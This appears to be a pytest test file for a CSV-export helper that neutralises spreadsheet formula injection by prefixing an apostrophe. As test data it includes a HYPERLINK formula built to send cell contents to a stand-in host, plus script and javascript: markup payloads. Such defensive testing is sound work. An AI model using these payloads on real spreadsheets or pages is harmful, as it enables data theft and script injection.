"""core.outputs.safe_csv: no cell a user typed opens as a formula in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.outputs.safe_csv import FORMULA_START, safe_cell, safe_csv


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_formula_cells_get_a_leading_apostrophe(cell: str) -> None:
    frame = pd.DataFrame({"notes": [cell, "plain"]})
    got = rows(safe_csv(frame))
    assert got == [["notes"], ["'" + cell], ["plain"]]


def test_numbers_stay_numbers_and_column_names_are_neutralised() -> None:
    frame = pd.DataFrame({"=cmd": ["a"], "count": [-5], "mean": [-1.5]})
    assert rows(safe_csv(frame)) == [["'=cmd", "count", "mean"], ["a", "-5", "-1.5"]]


def test_markup_is_written_as_is() -> None:
    cells = ["<script>alert(1)</script>", "[x](javascript:alert(1))", "**bold**"]
    assert [r[0] for r in rows(safe_csv(pd.DataFrame({"n": cells})))[1:]] == cells


def test_missing_values_stay_empty() -> None:
    frame = pd.DataFrame({"notes": pd.Series(["=1", None], dtype="string")})
    assert rows(safe_csv(frame)) == [["notes"], ["'=1"], [""]]


@settings(deadline=None)  # a property, not a timing
@given(st.lists(st.text(min_size=1), min_size=1, max_size=20))
def test_no_cell_starts_a_formula_and_nothing_else_changes(cells: list[str]) -> None:
    got = [r[0] if r else "" for r in rows(safe_csv(pd.DataFrame({"notes": cells})))[1:]]
    assert len(got) == len(cells)
    for before, after in zip(cells, got, strict=True):
        assert not after.startswith(FORMULA_START)
        assert after == safe_cell(before)
        assert after in (before, "'" + before)
